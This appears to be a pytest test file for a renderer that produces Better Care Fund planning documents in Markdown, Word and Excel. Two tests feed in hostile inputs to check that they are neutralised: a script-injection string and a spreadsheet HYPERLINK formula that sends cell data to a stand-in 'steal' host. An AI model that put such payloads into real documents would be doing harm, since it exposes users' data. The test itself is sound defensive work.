"""The rendered narrative and planning template, read back by real readers."""
import io
import re

import docx
import openpyxl
import pytest

from bcf_schema import available_periods, load, load_framework
from conftest import EXAMPLE_PLANS, ROOT
from planbuilder import complete_plan
from renderers.workbook import layout as L
from renderers import excel, narrative, word
from renderers.document import NOT_ANSWERED
from renderers.narrative import _md_cell

PLAN_IDS = [p.relative_to(ROOT / "plans").as_posix() for p in EXAMPLE_PLANS]


def example(path):
    plan = load(path).data
    return plan, load_framework(plan["framework"])


def outline_titles(fw, plan=None):
    """The outline's headings a document prints for the plan: not the framework's questions (kind prompt,
    printed as guidance), and nothing with no plan content under it (optional or not-applicable questions
    the plan leaves, template guidance). Without a plan: every heading."""
    if plan is None:
        return [e.title for e in fw.outline]
    narrative_ = plan.get("narrative") or {}
    placed = set((fw.data.get("narrative_tables") or {}).values())
    sections = {t.get("section") for t in plan.get("tables") or []}

    def has_content(entry):
        answer = narrative_.get(entry.id)
        answered = answer is not None and not (isinstance(answer, dict) and "not_applicable" in answer)
        return (answered or (answer is None and entry.answer == "required") or entry.id in placed
                or entry.id in sections or any(has_content(fw.outline_by_id[c]) for c in entry.children))
    return [e.title for e in fw.outline if e.kind != "prompt" and has_content(e)]


def in_outline_order(headings, fw):
    """The headings that are the framework's own, in the order they appear."""
    titles = set(outline_titles(fw))
    return [h for h in headings if h in titles]


@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
def test_markdown_outline_is_the_frameworks_outline(path):
    plan, fw = example(path)
    text = narrative.render(plan, fw)
    assert in_outline_order(markdown_headings(text), fw) == outline_titles(fw, plan)


def markdown_headings(text):
    """Each heading as the framework words it: a heading the plan words its own way carries the official one as
    its subtitle, the italic line under it."""
    lines = text.splitlines()
    out = []
    for i, line in enumerate(lines):
        if line.startswith("#"):
            after = lines[i + 2] if i + 2 < len(lines) else ""
            subtitle = after.startswith("*") and not after.startswith("**") and after.endswith("*")
            out.append(after.strip("*") if subtitle else line.lstrip("#").strip())
    return out


def word_headings(document):
    """(official heading, level) for each heading paragraph: the Subtitle paragraph under it where there is one."""
    paragraphs = document.paragraphs
    out = []
    for i, p in enumerate(paragraphs):
        if p.style.name.startswith("Heading"):
            after = paragraphs[i + 1] if i + 1 < len(paragraphs) else None
            official = after.text if after is not None and after.style.name == "Subtitle" else p.text
            out.append((official, int(p.style.name.split()[-1])))
    return out


@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
def test_word_outline_uses_real_heading_styles_in_framework_order(path):
    plan, fw = example(path)
    document = docx.Document(io.BytesIO(word.render(plan, fw)))
    headings = [text for text, _ in word_headings(document)]
    assert in_outline_order(headings, fw) == outline_titles(fw, plan)
    levels = dict(word_headings(document))
    for entry in fw.outline:
        if entry.title in outline_titles(fw, plan):
            assert levels[entry.title] == entry.depth
    # The framework's questions are guidance in the quote style, never headings.
    quotes = " ".join(p.text for p in document.paragraphs if p.style.name == "Quote")
    for entry in fw.outline:
        if entry.kind == "prompt" and entry.title in outline_titles(fw, plan) + [e.title for e in fw.outline]:
            assert entry.title not in headings
            if (plan.get("narrative") or {}).get(entry.id) and "not_applicable" not in plan["narrative"][entry.id]:
                assert " ".join(entry.title.split()) in quotes, entry.id


@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
def test_word_properties_come_from_the_plan(path):
    from renderers.document import document_title, hwb_names
    plan, fw = example(path)
    properties = docx.Document(io.BytesIO(word.render(plan, fw))).core_properties
    assert properties.title == document_title(plan, fw)
    assert properties.author == hwb_names(plan) and plan["hwbs"][0]["name"] in properties.author
    assert properties.subject == fw.title
    date = str(plan.get("date") or next((h["date"] for h in reversed(plan.get("history") or []) if h.get("date")),
                                         "2000-01-01"))
    assert properties.created.date().isoformat().startswith(date[:7]) and properties.created == properties.modified
    book = openpyxl.load_workbook(io.BytesIO(excel.render(plan, fw)))
    assert book.properties.creator == hwb_names(plan) and book.properties.subject == fw.title
    assert book.properties.created.date() == properties.created.date()


@pytest.mark.parametrize("period", available_periods())
def test_unanswered_section_is_marked_not_dropped(period):
    fw = load_framework(period)
    plan = complete_plan(fw)
    missing = [e for e in fw.outline if e.answer == "required"][-1]
    del plan["narrative"][missing.id]

    text = narrative.render(plan, fw)
    title = missing.title if missing.kind != "prompt" else _md_cell(" ".join(missing.title.split()))
    after = text.split(title, 1)[1]
    blocks = [b for b in after.strip().split("\n\n") if not b.startswith(">\n")]
    assert NOT_ANSWERED in "\n".join(blocks[:2])

    document = docx.Document(io.BytesIO(word.render(plan, fw)))
    texts = [" ".join(p.text.split()) for p in document.paragraphs]
    position = next(i for i, t in enumerate(texts) if t.startswith(" ".join(missing.title.split())))
    following = texts[position + 1:]
    assert NOT_ANSWERED in following[:1 + len(re.split(r"\n\s*\n", missing.wording.strip())) if missing.wording else 1]


@pytest.mark.parametrize("period", available_periods())
def test_word_tables_have_header_rows(period):
    fw = load_framework(period)
    document = docx.Document(io.BytesIO(word.render(complete_plan(fw), fw)))
    assert document.tables
    for table in document.tables:
        header = table.rows[0]._tr
        assert header.xpath("./w:trPr/w:tblHeader"), "first row is not marked as a header row"


def test_the_cover_gives_dates_as_a_reader_writes_them():
    plan, fw = example(ROOT / "plans/warwickshire/2023-25.yaml")
    plan["sign_off"][0]["date"] = "2023-09"  # a month the document gives without a day
    document = docx.Document(io.BytesIO(word.render(plan, fw)))
    cells = [cell.text for table in document.tables[:3] for row in table.rows for cell in row.cells]
    assert "22 June 2023" in cells  # the plan's date, 2023-06-22
    assert "10 May 2023" in cells  # the first history entry, 2023-05-10
    assert "September 2023" in cells
    assert not [c for c in cells if c.startswith("2023-0")], "an ISO date was left on the cover"


def test_priorities_are_a_captioned_list_in_word_and_markdown():
    plan, fw = example(ROOT / "plans/leicestershire/2025-26.yaml")
    document = docx.Document(io.BytesIO(word.render(plan, fw)))
    texts = [(p.style.name, p.text) for p in document.paragraphs]
    position = texts.index(("Caption", "Priorities"))
    assert texts[position + 1] == ("List Bullet", plan["priorities"][0])
    assert f"**Priorities**\n\n- {plan['priorities'][0]}" in narrative.render(plan, fw)


@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
def test_word_table_rows_are_not_split_across_pages(path):
    from renderers.word import _WHOLE_ROW

    plan, fw = example(path)
    document = docx.Document(io.BytesIO(word.render(plan, fw)))
    for table in document.tables:
        for row in table.rows[1:]:
            if max(len(cell.text) for cell in row.cells) <= _WHOLE_ROW:
                assert row._tr.xpath("./w:trPr/w:cantSplit"), [cell.text for cell in row.cells]


def test_markdown_emphasis_lists_and_links_reach_word():
    fw = load_framework(available_periods()[-1])
    plan = complete_plan(fw)
    first = next(e for e in fw.outline if e.answer == "required")
    plan["narrative"][first.id] = ("We **will** act *now*.\n\n- first point\n- second point\n\n"
                                   "See [the guidance](https://www.gov.uk/bcf).\n")
    document = docx.Document(io.BytesIO(word.render(plan, fw)))
    paragraphs = document.paragraphs
    will = next(p for p in paragraphs if p.text.startswith("We will act"))
    assert [r.text for r in will.runs if r.bold] == ["will"]
    assert [r.text for r in will.runs if r.italic] == ["now"]
    bullets = [p.text for p in paragraphs if p.style.name == "List Bullet"]
    assert bullets[:2] == ["first point", "second point"]
    links = document.part.rels.values()
    assert any(rel.reltype.endswith("/hyperlink") and rel.target_ref == "https://www.gov.uk/bcf" for rel in links)


def test_javascript_links_and_html_do_not_reach_the_documents():
    fw = load_framework(available_periods()[-1])
    plan = complete_plan(fw)
    first = next(e for e in fw.outline if e.answer == "required")
    plan["narrative"][first.id] = "<script>alert(1)</script> [click](javascript:alert(1))"
    text = narrative.render(plan, fw)
    assert "<script>" not in text and "&lt;script>" in text
    document = docx.Document(io.BytesIO(word.render(plan, fw)))
    assert not any(rel.reltype.endswith("/hyperlink") for rel in document.part.rels.values())


@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
def test_excel_template_has_every_declared_sheet_and_column(path):
    """Every sheet framework.yaml declares is written, in order, and every declared column is in its header
    (the cover's are its labelled rows); 2025-26 has its national conditions sheet."""
    plan, fw = example(path)
    book = openpyxl.load_workbook(io.BytesIO(excel.render(plan, fw)))
    declared = fw.data["planning_template"]["sheets"]
    visible = [ws.title for ws in book.worksheets if ws.sheet_state == "visible"]
    assert visible == [s["title"] for s in declared]
    for sheet in L.layout(fw).sheets:
        ws = book[sheet.title]
        if sheet.id == "cover":
            labels = [ws.cell(row, 1).value for row in range(1, ws.max_row + 1)]
            assert all(c.title in labels for c in sheet.columns), sheet.title
            continue
        headers = [c.value for c in ws[L.HEADER_ROW]]
        assert all(c.title in headers for c in sheet.columns), sheet.title
        assert ws.freeze_panes, f"{sheet.title}: header row not frozen"
    if fw.period == "2025-26":
        conditions = book["7. National Conditions"]
        assert [conditions.cell(row, 1).value for row in range(4, 8)] == fw.data["planning_template"]["sheets"][5]["rows"]


def test_formula_looking_plan_text_stays_text():
    fw = load_framework(available_periods()[-1])
    plan = complete_plan(fw)
    evil = '=HYPERLINK("http://example.invalid/steal?"&A1,"Click")'
    plan["schemes"][0]["name"] = evil
    plan["schemes"][0]["provider"] = "=1+1"
    plan["version"] = "@SUM(1,1)"
    book = openpyxl.load_workbook(io.BytesIO(excel.render(plan, fw)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value in (evil, "=1+1", "@SUM(1,1)")]
    assert len(cells) == 3
    assert all(c.data_type == "s" for c in cells)


def test_totals_are_formulas_and_money_has_a_pounds_format():
    fw = load_framework(available_periods()[-1])
    book = openpyxl.load_workbook(io.BytesIO(excel.render(complete_plan(fw), fw)))
    formulas = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert any(str(c.value).startswith("=SUM(") for c in formulas)
    assert any(str(c.value).startswith("=SUMIFS(") for c in formulas)
    money_cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
                   if isinstance(c.value, int) and c.value == 100_000]
    assert money_cells and all("£" in c.number_format for c in money_cells)


@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
def test_rendering_twice_gives_the_same_bytes(path):
    plan, fw = example(path)
    assert word.render(plan, fw) == word.render(plan, fw)
    assert excel.render(plan, fw) == excel.render(plan, fw)
    assert narrative.render(plan, fw) == narrative.render(plan, fw)


def _word_text(document) -> str:
    return "\n".join([p.text for p in document.paragraphs]
                     + [c.text for t in document.tables for r in t.rows for c in r.cells])


def test_goals_for_many_periods_are_a_table_with_a_row_a_period():
    fw = load_framework("2025-26")
    plan = complete_plan(fw)
    months = [f"2025-{m:02d}" for m in range(4, 13)] + [f"2026-{m:02d}" for m in range(1, 4)]
    first = fw.items("metrics")[0]
    plan["metrics"][first["id"]] = {"goals": {m: 100.0 + i for i, m in enumerate(months)}}
    document = docx.Document(io.BytesIO(word.render(plan, fw)))
    by_period = next(t for t in document.tables if t.rows[0].cells[0].text == "Period")
    assert [r.cells[0].text for r in by_period.rows[1:]] == months
    assert first["name"] in [c.text for c in by_period.rows[0].cells]
    assert [r.cells[1].text for r in by_period.rows[1:3]] == ["100", "101"]
    assert "2025-04: 100" not in _word_text(document)  # not crammed into one cell


def test_a_not_stated_reason_is_a_quiet_editors_note():
    plan, fw = example(ROOT / "plans" / "worcestershire" / "2023-25.yaml")
    document = docx.Document(io.BytesIO(word.render(plan, fw)))
    notes = [p for p in document.paragraphs if p.text.startswith("Not stated in this document")]
    assert notes
    for paragraph in notes:
        assert paragraph.style.name == "Editor's Note"
        assert paragraph.style.font.italic and not any(r.bold for r in paragraph.runs)


def test_a_question_the_plan_marks_not_applicable_leaves_nothing():
    plan, fw = example(ROOT / "plans" / "leicestershire" / "2025-26.yaml")
    skipped = [i for i, a in plan["narrative"].items() if isinstance(a, dict) and "not_applicable" in a]
    assert skipped
    text = narrative.render(plan, fw)
    words = _word_text(docx.Document(io.BytesIO(word.render(plan, fw))))
    for entry_id in skipped:
        opening = " ".join(fw.outline_by_id[entry_id].title.split()[:6])
        assert opening not in " ".join(text.split()) and opening not in " ".join(words.split())


def test_outline_ids_are_shown_as_the_headings_titles():
    plan, fw = example(ROOT / "plans" / "warwickshire" / "2023-25.yaml")
    cells = [c for t in plan["tables"] for r in t["rows"] for c in r if c == "nc2.pr4.care_act"]
    assert cells  # the plan points at a heading by its id
    text = narrative.render(plan, fw)
    words = _word_text(docx.Document(io.BytesIO(word.render(plan, fw))))
    assert "nc2.pr4.care_act" not in text and "nc2.pr4.care_act" not in words
    assert fw.outline_by_id["nc2.pr4.care_act"].title in words


def test_markdown_keeps_web_addresses_in_angle_brackets_as_links():
    fw = load_framework("2023-25")
    plan = complete_plan(fw)
    first = next(e for e in fw.outline if e.answer == "required")
    plan["narrative"][first.id] = "See <https://example.org/plan?x=1> and <mailto:bcf@example.org>, not <b>bold</b>."
    text = narrative.render(plan, fw)
    assert "<https://example.org/plan?x=1>" in text and "<mailto:bcf@example.org>" in text
    assert "&lt;b>" in text and "<b>" not in text


def _section_of_each_table(document) -> list[tuple[str, bool]]:
    """(the table's first header cell, whether its page is landscape), in document order."""
    from docx.oxml.ns import qn
    body = document.element.body
    tables, index = [], 0
    landscape = [s.page_width > s.page_height for s in document.sections]
    for element in body.iterchildren():
        if element.tag == qn("w:tbl"):
            tables.append((element, index))
        elif element.tag == qn("w:p") and element.find(f"{qn('w:pPr')}/{qn('w:sectPr')}") is not None:
            index += 1
    return [(docx.table.Table(t, document).rows[0].cells[0].text, landscape[i]) for t, i in tables]


@pytest.mark.parametrize("path", EXAMPLE_PLANS, ids=PLAN_IDS)
def test_a_table_goes_landscape_only_when_too_wide_for_portrait(path):
    from renderers import document as d
    plan, fw = example(path)
    document = docx.Document(io.BytesIO(word.render(plan, fw)))
    for (header, landscape), table in zip(_section_of_each_table(document),
                                          [b for b in d.build(plan, fw).blocks if isinstance(b, d.Table)]):
        assert landscape == word._needs_landscape(word._without_empty_columns(table)), table.title
    # a landscape page carries on with what follows, so a section holds more than its table
    for section_text in _landscape_sections(document):
        assert section_text.strip()


def _landscape_sections(document) -> list[str]:
    from docx.oxml.ns import qn
    texts, current, index = [], [], 0
    landscape = [s.page_width > s.page_height for s in document.sections]
    for element in document.element.body.iterchildren():
        if element.tag == qn("w:p"):
            current.append("".join(t.text or "" for t in element.iter(qn("w:t"))))
            if element.find(f"{qn('w:pPr')}/{qn('w:sectPr')}") is not None:
                if landscape[index]:
                    texts.append("\n".join(current))
                current, index = [], index + 1
    return texts


def test_eight_narrow_columns_stay_portrait():
    from renderers import document as d
    narrow = d.Table("Quarterly figures", ["Year", "Q1", "Q2", "Q3", "Q4", "Total", "Goal", "Met"],
                     [["2023-24", 1, 2, 3, 4, 10, 9, "yes"]])
    wide = d.Table("Schemes", ["Scheme", "Type", "Provider", "Commissioner", "Source", "2023-24", "2024-25"],
                   [["Integrated community equipment service", "Assistive technologies and equipment",
                     "Warwickshire County Council", "Local authority", "Minimum NHS contribution",
                     1_000_000, 2_000_000]])
    document = docx.Document(io.BytesIO(word.to_docx(d.Document("Test", [d.Heading(1, "Test"), narrow,
                                                                         d.Text("After."), wide,
                                                                         d.Text("Shares its page."),
                                                                         d.Heading(2, "Next")]))))
    assert _section_of_each_table(document) == [("Year", False), ("Scheme", True)]
    assert "Shares its page." in _landscape_sections(document)[0]
